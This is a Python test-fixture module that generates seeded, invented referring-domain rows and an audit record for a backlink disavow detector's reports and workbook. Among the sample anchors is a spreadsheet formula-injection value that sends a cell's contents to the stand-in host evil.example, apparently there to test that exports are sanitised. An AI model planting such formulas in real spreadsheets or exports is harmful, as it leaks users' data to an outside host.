"""An audit to show: the record and the table of referring domains as the command hands them over, seeded."""

from __future__ import annotations

import random
from datetime import date, timedelta
from typing import Any

import idna
import polars as pl

from detector.report.figures import ANCHOR_KINDS
from detector.report.rows import DOMAIN_COLUMNS

KINDS = ("negative-SEO wave", "link farm", "link seller", "theme neighbour", "comment or profile spam", "")
REASONS = (
    "4 of 4 anchors are link-sellers’ words: “🔥 BUY BACKLINKS 👉 @zz_sample_cartel”.",
    "The linking page has 2,608 external links; the median of this profile is 14.",
    "152 domains with the same kind of name first linked between 2026-08-10 and 2026-09-16.",
    "The same anchor and target stand on 41 other domains.",
    "29 other referring domains share its network 198.51.100.0/24.",
    "Ahrefs rates the domain 0.4 of 100, and no search visitors are known.",
    "The anchor names the site, as most honest links do.",
)
ANCHORS = (
    "buy copper kettle online",
    "Kettle & Thyme",
    "",
    "s l o t  g a c o r",
    "המתכון המקורי",
    "オンラインカジノ おすすめ",
    "🔥 BUY BACKLINKS 👉 @zz_sample_cartel",
    '=HYPERLINK("http://evil.example/?leak="&A1,"cheap links")',
)
NAMES = ("best-seo-links", "copper-pantry", "kettle-resources", "judi-bonus", "bücherküche", "shulchan-bait")
VERDICTS = ("disavow", "review", "keep", "ignore")
TOOLS = ("ahrefs", "semrush", "gsc", "majestic", "ubersuggest")


def domains_frame(rows: list[dict[str, Any]]) -> pl.DataFrame:
    return pl.DataFrame(rows, schema={name: kind for name, (kind, _) in DOMAIN_COLUMNS.items()})


def one_domain(**changes: object) -> dict[str, Any]:
    """A plain row, changed where the test says so."""
    row: dict[str, Any] = dict.fromkeys(DOMAIN_COLUMNS)
    row |= {
        "referring_domain": "copper-pantry.example",
        "verdict": "review",
        "probability": 0.5,
        "kind": "directory",
    }
    row |= {
        "reasons": ["A reason."],
        "links": 3,
        "followed_links": 2,
        "anchors": ["Kettle"],
        "tools": ["ahrefs"],
    }
    return row | changes


def many_domains(count: int) -> pl.DataFrame:
    """`count` referring domains with every verdict, gaps, scripts and directions of writing."""
    draw = random.Random(7)
    rows = []
    for number in range(count):
        verdict = draw.choices(VERDICTS, (0.4, 0.15, 0.35, 0.1))[0]
        toxic = verdict in ("disavow", "ignore")
        name = idna.encode(f"{draw.choice(NAMES)}-{number}.example").decode()
        links, first = draw.randint(1, 60), date(2019, 1, 1) + timedelta(days=draw.randint(0, 2800))
        rows.append(
            one_domain(
                referring_domain=name,
                verdict=verdict,
                probability=draw.uniform(0.7, 1) if toxic else draw.uniform(0, 0.6),
                kind=draw.choice(KINDS[:-1]) if toxic else None,
                reasons=draw.sample(REASONS, draw.randint(1, 5)),
                links=links,
                followed_links=draw.choice((None, draw.randint(0, links), links)),
                first_seen=first,
                last_seen=draw.choice((None, date(2026, 10, 1))),
                anchors=draw.sample(ANCHORS, draw.randint(0, 4)),
                tools=draw.sample(TOOLS, draw.randint(1, 4)),
                rule=f"domain:{name}" if verdict == "disavow" else None,
                guard="a whole platform" if number % 97 == 5 else None,
                no_line_needed="all links are nofollow" if verdict == "ignore" else None,
                example_url=f"https://{name}/links/page-{number}.html",
                cluster=number % 3 + 1 if toxic else None,
                decided="keep, by ann on 3 November 2026: a partner of ours" if number % 41 == 3 else None,
            )
        )
    return domains_frame(rows)


def an_audit() -> dict[str, Any]:
    """The parsed audit.json of an invented site, with every key."""
    return {
        "site": "www.kettle-and-thyme.example",
        "generated": "2026-11-21T05:33:00+00:00",
        "headline": "A wave of bought links is aimed at this site; 236 domains are proposed for disavowing.",
        "summary": [
            "152 domains of one template began to link between 10 August and 16 September 2026.",
            "No manual action is reported. Search engines discount most of this by themselves: doing "
            "nothing is a defensible choice, and the file proposed here is the careful one.",
        ],
        "warnings": ["gsc-latest-links.csv holds exactly 1,000 rows: Search Console cut it off there."],
        "counts": {
            "links": 1184,
            "referring_domains": 577,
            "records": 3012,
            "files": 3,
            "verdicts": {"disavow": 236, "review": 41, "keep": 262, "ignore": 38},
            "other_targets": 12,
        },
        "files": [
            a_file("ahrefs-backlinks.csv", "ahrefs", "backlinks", 837),
            a_file("semrush-backlinks.csv", "semrush", "backlinks", 671)
            | {"invalid": 2, "warnings": ["Two rows could not be read; they are kept in links.parquet."]},
            a_file("gsc-latest-links.csv", "gsc", "latest_links", 1000),
        ],
        "model": {"version": "2026.11.1", "trained": "2026-11-19", "suffix_list_date": "2026-10-01"},
        "manual_action": False,
        "clusters": [a_cluster(1, 152), a_cluster(2, 17)],
        "promise": {
            "risk": 0.01,
            "confidence": 0.9,
            "sentences": ["Promise for domains known by pages: at most 1 % are wrong."],
            "tiers": {"rich": {"lines": 236, "expected_wrong": 1.2}},
        },
        "disavow": {
            "path": "out/disavow.txt",
            "lines": 251,
            "bytes": 9874,
            "held_back": [
                "held back (public suffix): domain:org.br",
                "held back (platform): domain:blogspot.com",
            ],
            "left_out": 0,
        },
        "settings": {"site": "www.kettle-and-thyme.example", "without": [], "keep_going": False},
    }


def a_cluster(number: int, domains: int) -> dict[str, Any]:
    return {
        "cluster": number,
        "domains": domains,
        "links": 2 * domains,
        "first_seen": "2026-08-10",
        "last_first_seen": "2026-09-16",
        "days": 20,
        "majority": "disavow",
        "verdicts": {"disavow": domains - 1, "review": 1, "keep": 0, "ignore": 0},
        "traces": [{"told": "the anchor template", "value": "המתכון <b>cheap</b> 0", "domains": domains}],
        "examples": ["best-seo-links-7.example"],
    }


def a_file(name: str, tool: str, report: str, records: int) -> dict[str, Any]:
    return {"file": name, "tool": tool, "report": report, "records": records, "invalid": 0}


def signals_and_links(domains: pl.DataFrame) -> tuple[pl.DataFrame, pl.LazyFrame]:
    """What the charts and the workbook need beside ``domains``: ratings, shares of anchors, and a link a domain."""
    draw = random.Random(11)
    names = domains["referring_domain"].to_list()
    shares = {name: [draw.random() for _ in names] for name in ANCHOR_KINDS}
    signals = pl.DataFrame(
        {"referring_domain": names, **shares, "authority_ahrefs_dr": [draw.uniform(0, 90) for _ in names]}
    )
    links = domains.select(
        pl.lit("link").alias("record_type"), "referring_domain", "first_seen", "last_seen",
        source_url=pl.col("example_url"), target_url=pl.lit("https://www.kettle-and-thyme.example/"),
        anchor=pl.col("anchors").list.first(),
    )  # fmt: skip
    return signals, links.lazy()
